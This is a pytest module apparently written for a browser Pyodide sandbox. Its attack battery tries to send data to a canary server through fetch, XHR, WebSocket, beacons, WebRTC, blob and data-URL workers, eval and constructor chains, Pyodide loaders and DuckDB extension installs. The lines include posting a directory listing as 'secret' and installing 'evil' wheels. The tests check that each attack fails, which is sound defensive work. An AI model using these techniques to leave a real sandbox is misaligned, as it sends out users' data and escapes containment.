"""Hostile cells against the sandbox's network walls, through the real JS API: fetch in
every form, XHR, WebSocket, EventSource, WebTransport, beacons, WebRTC, scripts and
workers, eval and constructor chains, and Pyodide's own network paths.

Each attack is a realistic attempt by the model's code (or text steering it) to send
something out. The battery's rules (two servers, the canary, what must hold after each
attack) are in attack_kit.py; the rest of it is in test_attacks_contexts.py,
test_attacks_limits.py and test_attacks_forged.py.
"""

from __future__ import annotations

from typing import Any

import pytest

from .attack_kit import (
    JS_FETCH_VERDICT,
    JS_XHR_SYNC,
    Attack,
    attack_fails_cleanly,
    crashed,
)
from .helpers import Canary
from .test_attacks_contexts import PAGE_ATTACKS
from .test_attacks_limits import LIMIT_ATTACKS

pytestmark = pytest.mark.browser

# run_sql loads DuckDB (and it must be DuckDB that answers, not the SQLite fallback);
# each statement must fail without reaching the canary.
DUCKDB = """
from reckon.kernel._sql import sql_engine
assert sql_engine() == "DuckDB", "DuckDB did not load"
def sql(query):
    try:
        frame = run_sql(query)
    except Exception as exc:
        print("BLOCKED", type(exc).__name__, str(exc)[:200])
    else:
        print("REACHED", frame.to_string()[:200])

def quiet(query):  # INSTALL only records the wish in DuckDB-wasm: LOAD fetches
    try:
        run_sql(query)
    except Exception:
        pass
"""

NETWORK_ATTACKS: dict[str, Attack] = {
    # --- fetch ------------------------------------------------------------------------
    "fetch-canary": Attack('print(await settle(js.fetch("CANARY/fetch")))'),
    "fetch-canary-post-body": Attack(
        "body = 'secret=' + ','.join(os.listdir('/data'))\n"
        'init = js_obj({"method": "POST", "body": body, "mode": "no-cors"})\n'
        'print(await settle(js.fetch("CANARY/post", init)))'
    ),
    "fetch-canary-keepalive": Attack(
        'print(await settle(js.fetch("CANARY/keepalive", js_obj({"keepalive": True}))))'
    ),
    "fetch-request-object": Attack(
        'print(await settle(js.fetch(js.Request.new("CANARY/request-object"))))'
    ),
    "fetch-own-origin-v1-models": Attack('print(await settle(js.fetch("SITE/v1/models")))'),
    "fetch-own-origin-relative": Attack('print(await settle(js.fetch("/v1/models")))'),
    "fetch-data-url": Attack('print(await settle(js.fetch("data:text/plain,hello")))'),
    "fetch-blob-url": Attack(
        'print(await settle(js.fetch(js.URL.createObjectURL(js.Blob.new(to_js(["x"]))))))'
    ),
    "fetch-unpatched-from-prototype": Attack(
        # The worker wraps self.fetch; the original from the prototype is no better.
        "proto = js.eval('WorkerGlobalScope.prototype.fetch')\n"
        'print(await settle(proto.call(js.self, "CANARY/proto-fetch")))'
    ),
    "fetch-through-runtime-prefix": Attack(
        # URLs under the runtime's indexURL are answered from memory, never the network.
        "import pyodide_js\n"
        "base = pyodide_js._api.config.indexURL\n"
        'resp = await js.fetch(base + "../v1/models?to=CANARY")\n'
        "text = await resp.text()\n"
        'print("BLOCKED" if resp.status == 404 and "not in this build" in text else "REACHED",'
        " resp.status, text[:80])"
    ),
    # --- XHR, WebSocket, EventSource, WebTransport, beacon, WebRTC ----------------------
    "xhr-async-canary": Attack(
        "x = js.XMLHttpRequest.new()\n"
        'x.open("GET", "CANARY/xhr-async")\n'
        'verdict = first_event(x, ["load"], ["error", "abort"])\n'
        "x.send()\n"
        "print(await verdict)"
    ),
    "xhr-sync-canary": Attack(
        'attempt(lambda: js.eval("' + JS_XHR_SYNC.format() + '")("CANARY/xhr-sync"))'
    ),
    "xhr-sync-own-origin": Attack(
        'attempt(lambda: js.eval("' + JS_XHR_SYNC.format() + '")("SITE/v1/models"))'
    ),
    "websocket-canary": Attack(
        "try:\n"
        '    ws = js.WebSocket.new("ws://127.0.0.1:CPORT/ws")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        '    print(await first_event(ws, ["open", "message"], ["error", "close"]))'
    ),
    "eventsource-canary": Attack(
        "try:\n"
        '    es = js.EventSource.new("CANARY/events")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        '    print(await first_event(es, ["open", "message"], ["error"]))\n'
        "    es.close()"
    ),
    "webtransport-canary": Attack(
        "try:\n"
        "    wt = js.WebTransport.new('https://127.0.0.1:CPORT/wt')\n"
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        "    print(await settle(wt.ready))"
    ),
    "sendBeacon-canary": Attack(
        'attempt(lambda: js.navigator.sendBeacon("CANARY/beacon", "secret") or 1 / 0)'
    ),
    "webrtc-peerconnection": Attack(
        # In a window, WebRTC ignores connect-src; a worker must not have it at all.
        "attempt(lambda: js.RTCPeerConnection.new("
        'js_obj({"iceServers": [js_obj({"urls": "stun:127.0.0.1:CPORT"})]})))'
    ),
    # --- scripts and workers ----------------------------------------------------------------
    "importScripts-canary": Attack('attempt(lambda: js.importScripts("CANARY/script.js"))'),
    "importScripts-data-url": Attack(
        "attempt(lambda: js.importScripts(\"data:text/javascript,fetch('CANARY/data-script')\"))"
    ),
    "importScripts-blob-then-fetch": Attack(
        # blob: scripts may run (that is just eval); their requests are still refused.
        "js.importScripts(blob_url(\"self.__probe = fetch('CANARY/imported')"
        ".then(r => 'REACHED ' + r.status, e => 'BLOCKED ' + e)\"))\n"
        "print(await js.self.__probe)"
    ),
    "worker-from-canary-url": Attack(
        "try:\n"
        '    w = js.Worker.new("CANARY/worker.js")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        "    print(await first_message(w))"
    ),
    "worker-from-blob-fetches": Attack(
        "print(await worker_verdict(lambda: js.Worker.new(blob_url("
        + repr(JS_FETCH_VERDICT.format(url="CANARY/nested"))
        + "))))"
    ),
    "worker-from-blob-xhr-sync": Attack(
        "src = "
        + repr(
            "try { postMessage((" + JS_XHR_SYNC.format() + ')("CANARY/nested-xhr")) }'
            ' catch (e) { postMessage("BLOCKED " + e) }'
        )
        + "\nprint(await worker_verdict(lambda: js.Worker.new(blob_url(src))))"
    ),
    "dynamic-import-canary": Attack(
        "print(await js.eval(\"import('CANARY/module.js').then(() => 'REACHED',"
        " e => 'BLOCKED ' + e)\"))"
    ),
    "worker-from-blob-importScripts": Attack(
        'src = \'try { importScripts("CANARY/nested.js"); postMessage("REACHED") }'
        ' catch (e) { postMessage("BLOCKED " + e) }\'\n'
        "print(await worker_verdict(lambda: js.Worker.new(blob_url(src))))"
    ),
    "worker-from-data-url": Attack(
        "try:\n"
        '    w = js.Worker.new("data:text/javascript,postMessage(1)")\n'
        "except Exception as exc:\n"
        '    print("BLOCKED", type(exc).__name__)\n'
        "else:\n"
        "    print(await first_message(w))"
    ),
    "worker-that-would-outlive-the-run": Attack(
        # A worker would keep running after the run, a restart and reset(): there is none
        # to start, and the constructor cannot be put back.
        "attempt(lambda: js.eval('new Worker(URL.createObjectURL(new Blob([\"setInterval("
        '() => fetch(\\"CANARY/late\\"), 100)"])))\'))\n'
        "attempt(lambda: js.eval('Object.defineProperty(self, \"Worker\", {value: 1}); 1'))\n"
        "print('typeof', js.eval('typeof Worker + \" \" + typeof SharedWorker'))",
        must_print="typeof undefined undefined",
    ),
    "sharedworker-from-blob": Attack(
        "attempt(lambda: js.SharedWorker.new(blob_url("
        + repr(JS_FETCH_VERDICT.format(url="CANARY/shared"))
        + ")))"
    ),
    "wasm-compileStreaming-fetch": Attack(
        'print(await settle(js.WebAssembly.compileStreaming(js.fetch("CANARY/m.wasm"))))'
    ),
    # --- eval, Function, constructor chains -------------------------------------------------
    "js-eval-fetch": Attack(
        "print(await js.eval(\"fetch('CANARY/eval').then(r => 'REACHED ' + r.status,"
        " e => 'BLOCKED ' + e)\"))"
    ),
    "js-Function-xhr": Attack(
        "f = js.Function.new('u', \"try { const x = new XMLHttpRequest(); x.open('GET', u, false);"
        " x.send(); return 'REACHED ' + x.status } catch (e) { return 'BLOCKED ' + e }\")\n"
        'print(f("CANARY/function"))'
    ),
    "constructor-chain-global-fetch": Attack(
        'g = js.Object.constructor.constructor("return this")()\n'
        'print(await settle(g.fetch("CANARY/constructor")))'
    ),
    "constructor-chain-global-xhr": Attack(
        'g = js.Object.constructor.constructor("return this")()\n'
        "def go():\n"
        "    x = g.XMLHttpRequest.new()\n"
        '    x.open("GET", "CANARY/constructor-xhr", False)\n'
        "    x.send()\n"
        "    return x.status\n"
        "attempt(go)"
    ),
    # --- Pyodide's own network paths and internals -------------------------------------------
    "pyodide-pyfetch": Attack(
        'from pyodide.http import pyfetch\nprint(await settle(pyfetch("CANARY/pyfetch")))'
    ),
    "pyodide-open_url": Attack(
        'from pyodide.http import open_url\nattempt(lambda: open_url("CANARY/open_url").read())'
    ),
    "micropip-install-url": Attack(
        "try:\n"
        "    import micropip\n"
        "except ImportError as exc:\n"
        '    print("BLOCKED", exc)\n'
        "else:\n"
        '    print(await settle(micropip.install("CANARY/evil-1.0-py3-none-any.whl")))'
    ),
    "pyodide-loadPackage-url": Attack(
        "import pyodide_js\n"
        'await pyodide_js.loadPackage("CANARY/evil-1.0-py3-none-any.whl")\n'
        'attempt(lambda: __import__("evil"))'
    ),
    "pyodide-indexURL-rewrite": Attack(
        "import pyodide_js\n"
        "config = pyodide_js._api.config\n"
        "saved = config.indexURL\n"
        'config.indexURL = "CANARY/"\n'
        "try:\n"
        '    print(await settle(pyodide_js._api.loadBinaryFile("CANARY/evil.whl")))\n'
        "finally:\n"
        "    config.indexURL = saved"
    ),
    "pyodide-FS-createLazyFile": Attack(
        "import pyodide_js\n"
        'pyodide_js.FS.createLazyFile("/tmp", "lazy.txt", "CANARY/lazy", True, False)\n'
        'attempt(lambda: open("/tmp/lazy.txt").read())',
        # The refused sync XHR is fatal to Pyodide: said so at once, a new worker takes over.
        statuses=("error",),
        timeout_ms=30_000,
        deadline_s=90,
        must_print=None,
        check=crashed("NetworkError"),
        lean=True,
    ),
    "pyodide-internals-hold-no-secret": Attack(
        "import pyodide_js\n"
        "seen = [pyodide_js._api.config.indexURL, str(pyodide_js._module.HEAP8.length),\n"
        "        json.dumps(sorted(pyodide_js.FS.readdir('/')))]\n"
        'print("REACHED" if any("SENTINEL" in s for s in seen) else "BLOCKED", seen[:2])'
    ),
    # --- DuckDB (run_sql): its HTTP reads and extension installs ------------------------------
    "duckdb-read_csv-url": Attack(DUCKDB + "sql(\"SELECT * FROM read_csv('CANARY/duck.csv')\")"),
    "duckdb-from-url": Attack(DUCKDB + "sql(\"SELECT * FROM 'CANARY/duck.parquet'\")"),
    "duckdb-install-httpfs": Attack(DUCKDB + 'quiet("INSTALL httpfs")\nsql("LOAD httpfs")'),
    "duckdb-install-from-canary": Attack(
        DUCKDB + 'quiet("INSTALL httpfs FROM \'CANARY\'")\nsql("LOAD httpfs")'
    ),
    "duckdb-extension-repository": Attack(
        DUCKDB + "sql(\"SET custom_extension_repository = 'CANARY'\")\n"
        'sql("SET autoinstall_known_extensions = true")\n'
        "sql(\"SELECT * FROM read_csv('CANARY/auto.csv')\")"
    ),
    "duckdb-bridge-register-url": Attack(
        # The worker's own bridge only knows files of the sandbox's file system.
        DUCKDB + "import _reckon_duckdb\n"
        "attempt(lambda: _reckon_duckdb.register('CANARY/bridge.csv'))\n"
        "sql(\"SELECT * FROM 'CANARY/bridge.csv'\")"
    ),
}


def test_the_battery_is_large_enough() -> None:
    assert len(NETWORK_ATTACKS) + len(PAGE_ATTACKS) + len(LIMIT_ATTACKS) >= 45


@pytest.mark.parametrize("attack", NETWORK_ATTACKS.values(), ids=NETWORK_ATTACKS.keys())
def test_attack_fails_cleanly(
    sandbox: Any, canary: Canary, attack_server: tuple[str, str], attack: Attack
) -> None:
    attack_fails_cleanly(sandbox, canary, attack_server[1], attack)


def test_the_canary_does_record_requests(a_browser: Any, canary: Canary) -> None:
    """The battery would pass vacuously if the canary could not be reached at all: a
    plain page in the same browser reaches it."""
    context = a_browser.new_context()
    try:
        page = context.new_page()
        page.goto(f"{canary.url}/control")
        page.evaluate("(u) => fetch(u).then((r) => r.text())", f"{canary.url}/control-fetch")
    finally:
        context.close()
    assert ("GET", "/control") in canary.hits
    assert ("GET", "/control-fetch") in canary.hits
    canary.hits.clear()
